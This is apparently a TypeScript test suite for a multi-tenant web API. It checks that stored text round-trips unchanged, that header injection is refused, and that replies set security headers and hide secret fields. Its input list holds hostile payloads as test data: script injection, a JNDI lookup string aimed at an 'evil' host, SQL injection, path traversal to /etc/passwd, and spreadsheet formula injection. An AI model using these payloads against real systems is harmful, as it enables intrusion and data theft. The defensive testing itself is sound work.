import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ENDPOINTS } from '#contract/endpoints.ts'
import { everyNth } from '../extent.ts'
import { startTestServer, type TestServer, unique } from '../test-server.ts'
import { fill, inParallel, paramsIn, pathsOf } from '../walk.ts'
import { idOf } from '../id-of.ts'
import { foundTenant, type Tenant } from '../world.ts'

let server: TestServer
let tenant: Tenant
beforeAll(async () => {
  server = await startTestServer()
  tenant = await foundTenant(server)
})
afterAll(() => server.stop())

const NAUGHTY = everyNth(
  [
    'undefined',
    'null',
    'NaN',
    'true',
    '0',
    '-1',
    '1e400',
    '0x1F',
    '١٢٣',
    '{}',
    '[]',
    '"',
    "'",
    '`',
    '\\',
    '\\u0000',
    '%s%n%x',
    '%00',
    '&lt;b&gt;',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '${jndi:ldap://evil/a}',
    '{{7*7}}',
    '=1+1',
    '+1',
    '-2+3',
    '@SUM(A1)',
    "Robert'); DROP TABLE users;--",
    '../../etc/passwd',
    'CON',
    'Ω≈ç√∫˜µ≤≥÷',
    '𠮷野家',
    '👩‍👩‍👧‍👦🏳️‍🌈',
    '\u202Eevil\u202C',
    'A\u030A', // Not the same bytes as Å, and must not become it.
    'Å',
    'ß İ ﬁ',
    'Z̮̞̠͙͔ͅA̹̖L̗̙G̘͖O̭̼',
    'עברית العربية ไทย',
    'a\u2028b\u2029c',
    'a\u200Bb\uFEFFc',
    '\u0001\u001f\u007f',
    'x'.repeat(60),
    '字'.repeat(60),
    '😀'.repeat(60),
  ],
  4,
  0,
)

describe('texts come back byte for byte', () => {
  it(`from every place they are shown: ${NAUGHTY.length} texts`, async () => {
    await inParallel(NAUGHTY, async (text) => {
      const name = `n${unique()}`
      const created = await server.admin.post('/enterprise', { name, contact: text, remark: `${text}\r\n${text}` })
      const id = created.body.enterprise?.id
      expect([text, created.status, created.body.enterprise?.contact]).toEqual([text, 200, text])
      const wanted = { contact: text, remark: `${text}\r\n${text}` }
      expect((await server.admin.get(`/enterprise/${id}`)).body.enterprise).toMatchObject(wanted)
      const listed = await server.admin.get(`/enterprise?q=${name}`)
      expect(listed.body.enterprises).toMatchObject([wanted])
      const filter = encodeURIComponent(JSON.stringify({ ID: 'EntityId', Value: id }))
      const audit = await server.admin.get(`/audit?filters=${filter}`)
      expect(audit.body.audit[0].after).toMatchObject(wanted)
    })
    for (const text of NAUGHTY) {
      const { body } = await server.admin.put(`/users/${tenant.people.Member.user?.id}`, { fullname: text })
      expect([text, body.user?.fullname]).toEqual([text, text])
      expect((await tenant.people.Member.get('/me')).body.user.fullname).toBe(text)
    }
  })

  it('found again by what they are, not by what they look like', async () => {
    const texts = ["it's", '50%', 'a_b', 'c\\d', '<b>', '𠮷']
    for (const contact of texts)
      await server.admin.post('/enterprise', { name: `f${unique()}`, contact: `${contact}#find` })
    for (const contact of texts) {
      const found = await server.admin.get(`/enterprise?q=${encodeURIComponent(`${contact}#find`)}`)
      expect(found.body.enterprises.map((one: { contact: string }) => one.contact)).toEqual([`${contact}#find`])
    }
  })

  it('in settings too', async () => {
    for (const notice of NAUGHTY) {
      await server.admin.put('/config/site', { settings: JSON.stringify({ name: 'x', notice }) })
      expect((await server.guest.get('/site')).body.notice).toBe(notice)
    }
  })
})

describe('a line break has no place', () => {
  it('in names, which end up in headers and subjects', async () => {
    for (const broken of ['a\r\nSet-Cookie: x=1', 'a\nb', 'a\rb', 'a\tb']) {
      for (const reply of [
        await server.admin.post('/enterprise', { name: broken }),
        await server.admin.put(`/users/${server.admin.user?.id}`, { fullname: broken }),
        await server.admin.put('/me', { fullname: broken }),
        await server.admin.put('/me', { phone: broken }),
        await server.admin.put(`/enterprise/${tenant.id}`, { contact: broken }),
      ])
        expect([broken, reply.status]).toEqual([broken, 400])
    }
  })
})

describe('replies', () => {
  const READS = ENDPOINTS.filter(({ method }) => method === 'GET').flatMap((endpoint) =>
    pathsOf(endpoint).map((path) => ({ endpoint, path })),
  )
  const read = async (path: string) => {
    const ids = Object.fromEntries(paramsIn(path).map((param) => [param, idOf(tenant, path, param)]))
    return server.admin.get(fill(path, ids))
  }
  const FORBIDDEN = /password|secret|hash|credential|token|ancestors|deleted|search|grams|_id$|_at$/i
  /** Whether there is one, how it stands and until when: not the thing itself. */
  const TELLS_OF = /^(secretSet|hasPushToken|tokenStatus|tokenExpiresAt|tokenError)$/
  const smells = (key: string): boolean => FORBIDDEN.test(key) && !TELLS_OF.test(key)

  /** Every field's name, but for those that only say that something is hidden. */
  const keysIn = (value: unknown): string[] => {
    if (typeof value !== 'object' || value === null) return []
    const own = Array.isArray(value) ? [] : Object.entries(value).flatMap(([key, one]) => (one === '***' ? [] : key))
    return [...own, ...Object.values(value).flatMap(keysIn)]
  }

  it('are declared as what they are, so that a stored script stays text', async () => {
    await server.admin.put(`/enterprise/${tenant.id}`, { remark: '<script>alert(1)</script>' })
    for (const { endpoint, path } of READS) {
      const reply = await read(path)
      const type = reply.status === 200 ? (endpoint.replyType ?? 'application/json') : 'application/json'
      expect([path, reply.headers.get('content-type')]).toEqual([path, expect.stringContaining(type)])
      expect(reply.headers.get('x-content-type-options')).toBe('nosniff')
      expect(reply.headers.get('content-security-policy')).toContain("default-src 'none'")
    }
  })

  it('have no field that smells of a secret or of the database', async () => {
    await server.admin.put('/config/mail', { settings: JSON.stringify({ password: 'smtp secret' }) })
    for (const { path } of READS.filter((one) => one.endpoint.replyType === undefined)) {
      const { body } = await read(path)
      const smelling = keysIn(body).filter(smells)
      expect([path, smelling]).toEqual([path, []])
      if (typeof body.settings === 'string')
        expect([path, keysIn(JSON.parse(body.settings)).filter(smells)]).toEqual([path, []])
    }
  })

  it('fit the contract exactly: nothing is left out and nothing added', async () => {
    for (const { endpoint, path } of READS.filter((one) => one.endpoint.replyType === undefined)) {
      const { status, body } = await read(path)
      if (status === 200) expect([path, endpoint.reply.parse(body)]).toEqual([path, body])
    }
  })
})
